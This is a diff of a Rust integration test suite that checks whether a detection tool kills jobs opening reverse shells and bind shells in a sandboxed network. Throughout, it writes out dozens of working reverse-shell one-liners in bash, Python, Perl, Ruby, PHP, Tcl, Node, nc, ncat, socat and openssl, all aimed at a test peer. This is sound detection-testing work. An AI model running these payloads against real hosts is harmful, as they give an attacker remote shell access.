@@ -1,5 +1,7 @@
-//! R1–R4: shells whose standard streams lead to another machine, in many ways. Each kills its job; and B1: what only looks
-//! like one.
+//! R1–R4: shells whose standard streams lead to another machine, in many ways. Each kills its job, and nearly all of them
+//! before a command of the peer is executed.
+//!
+//! `PORTCULLIS_ATTEMPTS` says how often each is tried; more than once is for measuring (docs/detections.md).
 #![expect(
     clippy::print_stdout,
     reason = "the evidence of each variant, for whoever runs the test to see"
@@ -13,8 +15,11 @@ use portcullis_common::event::{DetectionEvent, DetectionType};
 use portcullis_common::policy::LockdownDetection;
 use portcullis_tests::world::network::RUNNER_V4;
 use portcullis_tests::{JobOutcome, JobResult, World, wait_until};
+use std::fs;
 use std::io::{Read, Write};
-use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream};
+use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
+use std::os::unix::fs::PermissionsExt;
+use std::path::PathBuf;
 use std::process::{Child, Command, Stdio};
 use std::sync::Arc;
 use std::sync::atomic::{AtomicU64, Ordering};
@@ -37,28 +42,104 @@ const PEER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 200);
 const PORTS: [u16; 2] = [4444, 5555];
 const TLS_PORT: u16 = 4445;
 
+/// What takes TLS off: port, port behind it, certificate, key.
+const TLS_RELAY: &str = "
+import socket, ssl, sys, threading
+context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
+context.load_cert_chain(sys.argv[3], sys.argv[4])
+def copy(one, other):
+    try:
+        while data := one.recv(4096):
+            other.sendall(data)
+    except OSError:
+        pass
+    other.close()
+def serve(client):
+    client = context.wrap_socket(client, server_side=True)
+    inner = socket.create_connection(('127.0.0.1', int(sys.argv[2])))
+    threading.Thread(target=copy, args=(client, inner), daemon=True).start()
+    copy(inner, client)
+listener = socket.create_server(('', int(sys.argv[1])))
+while True:
+    client = listener.accept()[0]
+    threading.Thread(target=serve, args=(client,), daemon=True).start()
+";
+
 /// Somebody who waits for shells and gives each one a command after the other.
 struct Peer {
-    /// Answers to commands that arrived.
-    answers: Arc<AtomicU64>,
+    commands: Commands,
     tls: Child,
     /// Its key and certificate are there for as long as it is.
     _files: tempfile::TempDir,
 }
 
+/// What the peer sends, and what became of it: an executed command leaves a line in a file, and its answer arrives.
+#[derive(Clone)]
+struct Commands {
+    marker: PathBuf,
+    answers: Arc<AtomicU64>,
+}
+
+impl Commands {
+    fn new(gate: &Gate) -> Result<Self> {
+        let directory =
+            tempfile::Builder::new().prefix("marker-").tempdir_in(gate.world.directory())?;
+        let directory = directory.keep();
+        fs::set_permissions(&directory, fs::Permissions::from_mode(0o777))?;
+        Ok(Self { marker: directory.join("executed"), answers: Arc::default() })
+    }
+
+    /// How many commands were executed so far; the evidence that shows more.
+    fn executed(&self) -> u64 {
+        let lines = fs::read_to_string(&self.marker).unwrap_or_default().lines().count() as u64;
+        lines.max(self.answers.load(Ordering::SeqCst))
+    }
+
+    fn text(&self) -> String {
+        format!("echo answer-$((40+2)); echo executed >>{}\n", self.marker.display())
+    }
+
+    fn count(&self, received: &[u8]) {
+        let seen = String::from_utf8_lossy(received).matches("answer-42").count() as u64;
+        self.answers.fetch_add(seen, Ordering::SeqCst);
+    }
+
+    fn forget(&self) {
+        let _ = fs::remove_file(&self.marker);
+        self.answers.store(0, Ordering::SeqCst);
+    }
+}
+
+/// Whether a command of the peer may be executed before the job is killed.
+#[derive(Clone, Copy, Eq, PartialEq)]
+enum FirstCommand {
+    /// The shell is stopped when it has read it.
+    Stopped,
+    /// It can't be told from an ordinary program before it has done something.
+    MayRun,
+}
+
+/// How often each variant is tried.
+fn attempts() -> u32 {
+    std::env::var("PORTCULLIS_ATTEMPTS").ok().and_then(|text| text.parse().ok()).unwrap_or(1)
+}
+
 impl Peer {
     fn listen(gate: &Gate) -> Result<Self> {
-        let answers = Arc::<AtomicU64>::default();
+        let commands = Commands::new(gate)?;
         for port in PORTS {
             let address = SocketAddr::from((Ipv4Addr::UNSPECIFIED, port));
             let listener = gate.world.internet().run(|| TcpListener::bind(address))??;
-            let counted = Arc::clone(&answers);
+            let counted = commands.clone();
             thread::spawn(move || {
                 for stream in listener.incoming().flatten() {
-                    let counted = Arc::clone(&counted);
+                    let counted = counted.clone();
                     thread::spawn(move || command(&stream, &counted));
                 }
             });
+            let datagrams = gate.world.internet().run(|| UdpSocket::bind(address))??;
+            let counted = commands.clone();
+            thread::spawn(move || command_by_datagrams(&datagrams, &counted));
         }
         let files = tempfile::tempdir()?;
         let path = |name: &str| files.path().join(name).display().to_string();
@@ -78,13 +159,13 @@ impl Peer {
         ensure!(made.success(), "openssl can't make a certificate");
         let tls = Command::new("nsenter")
             .arg(format!("--net={}", gate.world.internet().path().display()))
-            .args(["openssl", "s_server", "-quiet", "-accept", &TLS_PORT.to_string()])
-            .args(["-key", &path("key"), "-cert", &path("certificate")])
-            .stdin(Stdio::piped())
+            .args(["python3", "-c", TLS_RELAY, &TLS_PORT.to_string(), &PORTS[0].to_string()])
+            .args([path("certificate"), path("key")])
+            .stdin(Stdio::null())
             .stdout(Stdio::null())
             .stderr(Stdio::null())
             .spawn()?;
-        Ok(Self { answers, tls, _files: files })
+        Ok(Self { commands, tls, _files: files })
     }
 }
 
@@ -96,27 +177,34 @@ impl Drop for Peer {
 }
 
 /// Sends commands until the connection ends. The answer is no part of the command, for a terminal echoes that.
-fn command(mut stream: &TcpStream, answers: &AtomicU64) {
+fn command(mut stream: &TcpStream, commands: &Commands) {
     let _ = stream.set_read_timeout(Some(Duration::from_millis(100)));
     let mut buffer = [0; 4096];
     // A shell comes some time after its connection; whoever reads before is no shell.
     for _ in 0..600 {
-        if stream.write_all(b"echo answer-$((40+2))\n").is_err() {
+        if stream.write_all(commands.text().as_bytes()).is_err() {
             return;
         }
         loop {
             match stream.read(&mut buffer) {
                 Ok(0) => return,
                 Ok(length) => {
-                    let text = String::from_utf8_lossy(&buffer[..length]);
-                    let seen = text.matches("answer-42").count() as u64;
-                    answers.fetch_add(seen, Ordering::SeqCst);
+                    commands.count(&buffer[..length]);
                 }
                 // Quiet for a while: the next command.
                 Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => break,
                 Err(_) => return,
             }
         }
+    }
+}
+
+/// The same to whoever has sent a datagram.
+fn command_by_datagrams(socket: &UdpSocket, commands: &Commands) {
+    let mut buffer = [0; 4096];
+    while let Ok((length, from)) = socket.recv_from(&mut buffer) {
+        commands.count(&buffer[..length]);
+        let _ = socket.send_to(commands.text().as_bytes(), from);
     }
 }
 
@@ -128,17 +216,26 @@ fn reverse_shells(result: &[portcullis_common::event::Event]) -> Vec<DetectionEv
 }
 
 /// Runs each script as a job of its own, which must be killed for it.
-fn assert_killed(variants: &[(&str, &str)]) -> Result<()> {
+fn assert_killed(first: FirstCommand, variants: &[(&str, &str)]) -> Result<()> {
     let gate = Gate::up(World::builder().build()?, &[("audit", AUDIT)])?;
     let peer = Peer::listen(&gate)?;
     let mut failures = Vec::new();
     for (name, script) in variants {
-        let before = peer.answers.load(Ordering::SeqCst);
-        let (result, found) = run(&gate, script)?;
-        let answers = peer.answers.load(Ordering::SeqCst) - before;
-        match check(&result, &found) {
-            Ok(evidence) => println!("{name}: {answers} commands answered; {evidence}"),
-            Err(error) => failures.push(format!("{name}: {error:#}")),
+        let mut run_of = 0;
+        for attempt in 1..=attempts() {
+            peer.commands.forget();
+            let (result, found) = run(&gate, script)?;
+            let executed = peer.commands.executed();
+            run_of += u32::from(executed > 0);
+            match check(&result, &found) {
+                Ok(evidence) if attempt == 1 => println!("{name}: {executed} executed; {evidence}"),
+                Ok(_) => {}
+                Err(error) => failures.push(format!("{name}: {error:#}")),
+            }
+        }
+        println!("{name}: a command was executed in {run_of} of {} attempts", attempts());
+        if first == FirstCommand::Stopped && run_of * 100 > attempts() {
+            failures.push(format!("{name}: a command was executed in {run_of} attempts"));
         }
     }
     ensure!(failures.is_empty(), "{}\n{}", failures.join("\n"), gate.monitor.log());
@@ -180,116 +277,156 @@ fn check(result: &JobResult, found: &[DetectionEvent]) -> Result<String> {
 
 #[test]
 fn streams_on_the_connection_itself() -> Result<()> {
-    assert_killed(&[
-        ("bash -i with /dev/tcp", "bash -i >& /dev/tcp/$P/4444 0>&1"),
-        (
-            "nothing in argv",
-            "cat >quiet <<'END'\nexec 0<>/dev/tcp/$P/4444 1>&0 2>&0\nexec sh\nEND\nbash quiet",
-        ),
-        (
-            "sh on another descriptor first",
-            "bash -c 'exec 196<>/dev/tcp/$P/4444; sh <&196 >&196 2>&196'",
-        ),
-        (
-            "daemonised",
-            "setsid --fork nohup bash -c 'bash >& /dev/tcp/$P/4444 0>&1' >/dev/null 2>&1",
-        ),
-        ("datagrams", "bash -c 'exec 0<>/dev/udp/$P/4444; exec sh >&0 2>&0'"),
-        (
-            "python",
-            "python3 -c 'import os,socket,subprocess\ns=socket.create_connection((os.environ[\"P\"],4444))\n[os.dup2(s.fileno(),n) for n in (0,1,2)]\nsubprocess.call([\"/bin/sh\",\"-i\"])'",
-        ),
-        (
-            "perl",
-            "perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,sockaddr_in(4444,inet_aton($ENV{P}))); open(STDIN,\"<&S\"); open(STDOUT,\">&S\"); open(STDERR,\">&S\"); exec(\"/bin/sh\")'",
-        ),
-        (
-            "ruby",
-            "ruby -rsocket -e 's=TCPSocket.new(ENV[\"P\"],4444); exec(\"/bin/sh\", in: s, out: s, err: s)'",
-        ),
-        (
-            "php",
-            "php -r '$s=fsockopen(getenv(\"P\"),4444); proc_close(proc_open(\"exec /bin/sh\", [0=>$s,1=>$s,2=>$s], $p));'",
-        ),
-        ("tcl", "echo 'set s [socket $env(P) 4444]; exec sh <@$s >@$s 2>@$s' >t.tcl; tclsh t.tcl"),
-        (
-            "node with the socket as stdio",
-            "node -e 'const s=require(\"net\").connect(4444,process.env.P,()=>require(\"child_process\").spawn(\"/bin/sh\",[],{stdio:[s,s,s]}))'",
-        ),
-        ("nc -e", "nc.traditional -e /bin/sh $P 4444"),
-        (
-            "a shell under another name",
-            "cp /bin/bash compile; bash -c 'exec ./compile 0<>/dev/tcp/$P/4444 >&0 2>&0'",
-        ),
-    ])
+    assert_killed(
+        FirstCommand::Stopped,
+        &[
+            ("bash -i with /dev/tcp", "bash -i >& /dev/tcp/$P/4444 0>&1"),
+            (
+                "nothing in argv",
+                "cat >quiet <<'END'\nexec 0<>/dev/tcp/$P/4444 1>&0 2>&0\nexec sh\nEND\nbash quiet",
+            ),
+            (
+                "sh on another descriptor first",
+                "bash -c 'exec 196<>/dev/tcp/$P/4444; sh <&196 >&196 2>&196'",
+            ),
+            (
+                "daemonised",
+                "setsid --fork nohup bash -c 'bash >& /dev/tcp/$P/4444 0>&1' >/dev/null 2>&1",
+            ),
+            ("datagrams", "bash -c 'exec 0<>/dev/udp/$P/4444; exec sh -i >&0 2>&0'"),
+            (
+                "python",
+                "python3 -c 'import os,socket,subprocess\ns=socket.create_connection((os.environ[\"P\"],4444))\n[os.dup2(s.fileno(),n) for n in (0,1,2)]\nsubprocess.call([\"/bin/sh\",\"-i\"])'",
+            ),
+            (
+                "perl",
+                "perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,sockaddr_in(4444,inet_aton($ENV{P}))); open(STDIN,\"<&S\"); open(STDOUT,\">&S\"); open(STDERR,\">&S\"); exec(\"/bin/sh\")'",
+            ),
+            (
+                "ruby",
+                "ruby -rsocket -e 's=TCPSocket.new(ENV[\"P\"],4444); exec(\"/bin/sh\", in: s, out: s, err: s)'",
+            ),
+            (
+                "php",
+                "php -r '$s=fsockopen(getenv(\"P\"),4444); proc_close(proc_open(\"exec /bin/sh\", [0=>$s,1=>$s,2=>$s], $p));'",
+            ),
+            (
+                "tcl",
+                "echo 'set s [socket $env(P) 4444]; exec sh <@$s >@$s 2>@$s' >t.tcl; tclsh t.tcl",
+            ),
+            (
+                "node with the socket as stdio",
+                "node -e 'const s=require(\"net\").connect(4444,process.env.P,()=>require(\"child_process\").spawn(\"/bin/sh\",[],{stdio:[s,s,s]}))'",
+            ),
+            ("nc -e", "nc.traditional -e /bin/sh $P 4444"),
+            (
+                "a shell under another name",
+                "cp /bin/bash compile; bash -c 'exec ./compile 0<>/dev/tcp/$P/4444 >&0 2>&0'",
+            ),
+        ],
+    )
 }
 
 #[test]
 fn relays_with_pipes() -> Result<()> {
-    assert_killed(&[
-        ("mkfifo and nc", "mkfifo f; sh -i <f 2>&1 | nc $P 4444 >f"),
-        (
-            "mkfifo and nc under another name",
-            "cp \"$(readlink -f /bin/nc)\" link; mkfifo f; sh <f 2>&1 | ./link $P 4444 >f",
-        ),
-        ("mkfifo and telnet", "mkfifo f; sh -i <f 2>&1 | telnet $P 4444 >f"),
-        (
-            "mkfifo and openssl",
-            "mkfifo f; sh -i <f 2>&1 | openssl s_client -quiet -connect $P:4445 >f 2>/dev/null",
-        ),
-        ("two connections", "nc $P 4444 | sh 2>&1 | nc $P 5555"),
-        ("filters in between", "mkfifo f; cat f | sh 2>&1 | tee log | nc $P 4444 >f"),
-        ("ncat -e", "ncat -e /bin/sh $P 4444"),
-        ("ncat --sh-exec", "ncat --sh-exec 'exec bash' $P 4444"),
-        ("socat with a socket pair", "socat TCP:$P:4444 EXEC:/bin/sh,stderr"),
-        ("socat with pipes", "socat TCP:$P:4444 EXEC:/bin/sh,pipes,stderr"),
-        (
-            "a loop of the shell's own",
-            "bash -c 'exec 5<>/dev/tcp/$P/4444; cat <&5 | while read line; do eval \"$line\" >&5 2>&5; done'",
-        ),
-        (
-            "over loopback",
-            "socat TCP-LISTEN:7777,bind=127.0.0.1,reuseaddr TCP:$P:4444 & until bash -c 'exec 0<>/dev/tcp/127.0.0.1/7777 >&0 2>&0 || exit 1; exec sh'; do sleep 0.1; done",
-        ),
-    ])
+    assert_killed(
+        FirstCommand::Stopped,
+        &[
+            ("mkfifo and nc", "mkfifo f; sh -i <f 2>&1 | nc $P 4444 >f"),
+            (
+                "mkfifo and nc under another name",
+                "cp \"$(readlink -f /bin/nc)\" link; mkfifo f; sh <f 2>&1 | ./link $P 4444 >f",
+            ),
+            ("mkfifo and telnet", "mkfifo f; sh -i <f 2>&1 | telnet $P 4444 >f"),
+            (
+                "mkfifo and openssl",
+                "mkfifo f; sh -i <f 2>&1 | openssl s_client -quiet -connect $P:4445 >f 2>/dev/null",
+            ),
+            ("two connections", "nc $P 4444 | sh 2>&1 | nc $P 5555"),
+            ("filters in between", "mkfifo f; cat f | sh 2>&1 | tee log | nc $P 4444 >f"),
+            ("ncat -e", "ncat -e /bin/sh $P 4444"),
+            ("ncat --sh-exec", "ncat --sh-exec 'exec bash' $P 4444"),
+            ("socat with a socket pair", "socat TCP:$P:4444 EXEC:/bin/sh,stderr"),
+            ("socat with pipes", "socat TCP:$P:4444 EXEC:/bin/sh,pipes,stderr"),
+            (
+                "over loopback",
+                "socat TCP-LISTEN:7777,bind=127.0.0.1,reuseaddr TCP:$P:4444 & until bash -c 'exec 0<>/dev/tcp/127.0.0.1/7777 >&0 2>&0 || exit 1; exec sh'; do sleep 0.1; done",
+            ),
+        ],
+    )
+}
+
+/// What can be a client that asks a server something, or a relay that sees through its encryption, is judged by what it does;
+/// and what another process of the job lets go on executes something before it is stopped again.
+#[test]
+fn what_has_to_be_seen_first() -> Result<()> {
+    assert_killed(
+        FirstCommand::MayRun,
+        &[
+            (
+                "a loop of the shell's own",
+                "bash -c 'exec 5<>/dev/tcp/$P/4444; cat <&5 | while read line; do eval \"$line\" >&5 2>&5; done'",
+            ),
+            (
+                "somebody who wakes it",
+                "bash -c 'while kill -CONT 0; do :; done' 2>/dev/null & bash -i >& /dev/tcp/$P/4444 0>&1",
+            ),
+            (
+                "a relay of one's own with TLS",
+                "python3 -c 'import os,socket,ssl,subprocess,threading\nc=ssl.create_default_context(); c.check_hostname=False; c.verify_mode=ssl.CERT_NONE\ns=c.wrap_socket(socket.create_connection((os.environ[\"P\"],4445)))\np=subprocess.Popen([\"/bin/sh\"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT,bufsize=0)\ndef out():\n  while True: s.sendall(p.stdout.read(4096) or exit())\nthreading.Thread(target=out,daemon=True).start()\nwhile True: p.stdin.write(s.recv(4096) or exit())'",
+            ),
+        ],
+    )
 }
 
 #[test]
 fn programs_that_move_data_by_themselves() -> Result<()> {
-    assert_killed(&[
-        (
-            "node",
-            "node -e 'const s=require(\"net\").connect(4444,process.env.P,()=>{const h=require(\"child_process\").spawn(\"/bin/sh\"); s.pipe(h.stdin); h.stdout.pipe(s); h.stderr.pipe(s)})'",
-        ),
-        (
-            "python",
-            "python3 -c 'import os,socket,subprocess,threading\ns=socket.create_connection((os.environ[\"P\"],4444))\np=subprocess.Popen([\"/bin/sh\"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT,bufsize=0)\ndef out():\n  while True: s.sendall(p.stdout.read(4096) or exit())\nthreading.Thread(target=out,daemon=True).start()\nwhile True: p.stdin.write(s.recv(4096) or exit())'",
-        ),
-        (
-            "php",
-            "php -r '$s=fsockopen(getenv(\"P\"),4444); $h=proc_open(\"exec /bin/sh\",[[\"pipe\",\"r\"],[\"pipe\",\"w\"],[\"pipe\",\"w\"]],$p); foreach([$s,$p[1],$p[2]] as $x) stream_set_blocking($x,false); while(!feof($s)){ $r=[$s,$p[1],$p[2]]; $w=$e=null; stream_select($r,$w,$e,null); foreach($r as $x){ $d=fread($x,4096); if($x===$s) fwrite($p[0],$d); else fwrite($s,$d);} }'",
-        ),
-        (
-            "perl",
-            "perl -MIPC::Open2 -MIO::Socket::INET -MIO::Select -e '$s=IO::Socket::INET->new(\"$ENV{P}:4444\"); open2($o,$i,\"/bin/sh\"); $l=IO::Select->new($s,$o); while(@r=$l->can_read){ for(@r){ sysread($_,$d,4096) or exit; syswrite($_==$s ? $i : $s, $d) } }'",
-        ),
-    ])
+    assert_killed(
+        FirstCommand::Stopped,
+        &[
+            (
+                "node",
+                "node -e 'const s=require(\"net\").connect(4444,process.env.P,()=>{const h=require(\"child_process\").spawn(\"/bin/sh\"); s.pipe(h.stdin); h.stdout.pipe(s); h.stderr.pipe(s)})'",
+            ),
+            (
+                "python",
+                "python3 -c 'import os,socket,subprocess,threading\ns=socket.create_connection((os.environ[\"P\"],4444))\np=subprocess.Popen([\"/bin/sh\"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT,bufsize=0)\ndef out():\n  while True: s.sendall(p.stdout.read(4096) or exit())\nthreading.Thread(target=out,daemon=True).start()\nwhile True: p.stdin.write(s.recv(4096) or exit())'",
+            ),
+            (
+                "php",
+                "php -r '$s=fsockopen(getenv(\"P\"),4444); $h=proc_open(\"exec /bin/sh\",[[\"pipe\",\"r\"],[\"pipe\",\"w\"],[\"pipe\",\"w\"]],$p); foreach([$s,$p[1],$p[2]] as $x) stream_set_blocking($x,false); while(!feof($s)){ $r=[$s,$p[1],$p[2]]; $w=$e=null; stream_select($r,$w,$e,null); foreach($r as $x){ $d=fread($x,4096); if($x===$s) fwrite($p[0],$d); else fwrite($s,$d);} }'",
+            ),
+            (
+                "perl",
+                "perl -MIPC::Open2 -MIO::Socket::INET -MIO::Select -e '$s=IO::Socket::INET->new(\"$ENV{P}:4444\"); open2($o,$i,\"/bin/sh\"); $l=IO::Select->new($s,$o); while(@r=$l->can_read){ for(@r){ sysread($_,$d,4096) or exit; syswrite($_==$s ? $i : $s, $d) } }'",
+            ),
+        ],
+    )
 }
 
 #[test]
 fn terminals() -> Result<()> {
-    assert_killed(&[
-        ("socat with a terminal", "socat TCP:$P:4444 EXEC:/bin/sh,pty,stderr,setsid,sigint,sane"),
-        (
-            "python's pty.spawn",
-            "python3 -c 'import os,pty,socket\ns=socket.create_connection((os.environ[\"P\"],4444))\n[os.dup2(s.fileno(),n) for n in (0,1,2)]\npty.spawn(\"/bin/sh\")'",
-        ),
-        ("script and a fifo", "mkfifo f; script -qfc 'bash -i' /dev/null <f 2>&1 | nc $P 4444 >f"),
-        (
-            "a relay of one's own with a terminal",
-            "python3 -c 'import os,pty,select,socket\ns=socket.create_connection((os.environ[\"P\"],4444))\npid,m=pty.fork()\nif pid==0: os.execv(\"/bin/sh\",[\"sh\"])\nwhile True:\n  for r in select.select([s,m],[],[])[0]:\n    d=os.read(r.fileno() if r is s else r,4096)\n    if not d: exit()\n    os.write(m if r is s else s.fileno(),d)'",
-        ),
-    ])
+    assert_killed(
+        FirstCommand::Stopped,
+        &[
+            (
+                "socat with a terminal",
+                "socat TCP:$P:4444 EXEC:/bin/sh,pty,stderr,setsid,sigint,sane",
+            ),
+            (
+                "python's pty.spawn",
+                "python3 -c 'import os,pty,socket\ns=socket.create_connection((os.environ[\"P\"],4444))\n[os.dup2(s.fileno(),n) for n in (0,1,2)]\npty.spawn(\"/bin/sh\")'",
+            ),
+            (
+                "script and a fifo",
+                "mkfifo f; script -qfc 'bash -i' /dev/null <f 2>&1 | nc $P 4444 >f",
+            ),
+            (
+                "a relay of one's own with a terminal",
+                "python3 -c 'import os,pty,select,socket\ns=socket.create_connection((os.environ[\"P\"],4444))\npid,m=pty.fork()\nif pid==0: os.execv(\"/bin/sh\",[\"sh\"])\nwhile True:\n  for r in select.select([s,m],[],[])[0]:\n    d=os.read(r.fileno() if r is s else r,4096)\n    if not d: exit()\n    os.write(m if r is s else s.fileno(),d)'",
+            ),
+        ],
+    )
 }
 
 /// The peer connects to the job.
@@ -306,26 +443,34 @@ fn shells_on_a_listening_port() -> Result<()> {
         ("mkfifo and nc", "mkfifo f; sh <f 2>&1 | nc -l 6005 >f"),
     ];
     let gate = Gate::up(World::builder().build()?, &[("audit", AUDIT)])?;
-    let answers = Arc::<AtomicU64>::default();
+    let commands = Commands::new(&gate)?;
     for (port, (name, script)) in (6001..).zip(variants) {
-        let address = SocketAddr::new(IpAddr::V4(RUNNER_V4), port);
-        let (result, found) = thread::scope(|scope| -> Result<_> {
-            let caller = scope.spawn(|| -> Result<()> {
-                let mut connected = None;
-                wait_until("the shell listens", || {
-                    connected = gate.world.attacker().connect(address).ok();
-                    connected.is_some()
-                })?;
-                command(&connected.context("not connected")?, &answers);
-                Ok(())
-            });
-            let run = run(&gate, script)?;
-            caller.join().expect("no panic").with_context(|| name)?;
-            Ok(run)
-        })?;
-        let evidence =
-            check(&result, &found).with_context(|| format!("{name}\n{}", gate.monitor.log()))?;
-        println!("{name}: {evidence}");
+        for _ in 0..attempts() {
+            commands.forget();
+            let address = SocketAddr::new(IpAddr::V4(RUNNER_V4), port);
+            let (result, found) = thread::scope(|scope| -> Result<_> {
+                let caller = scope.spawn(|| -> Result<()> {
+                    let mut connected = None;
+                    wait_until("the shell listens", || {
+                        connected = gate.world.attacker().connect(address).ok();
+                        connected.is_some()
+                    })?;
+                    command(&connected.context("not connected")?, &commands);
+                    Ok(())
+                });
+                let run = run(&gate, script)?;
+                caller.join().expect("no panic").with_context(|| name)?;
+                Ok(run)
+            })?;
+            let evidence = check(&result, &found)
+                .with_context(|| format!("{name}\n{}", gate.monitor.log()))?;
+            println!("{name}: {evidence}");
+            ensure!(
+                commands.executed() == 0,
+                "{name}: a command was executed\n{}",
+                gate.monitor.log()
+            );
+        }
     }
     Ok(())
 }
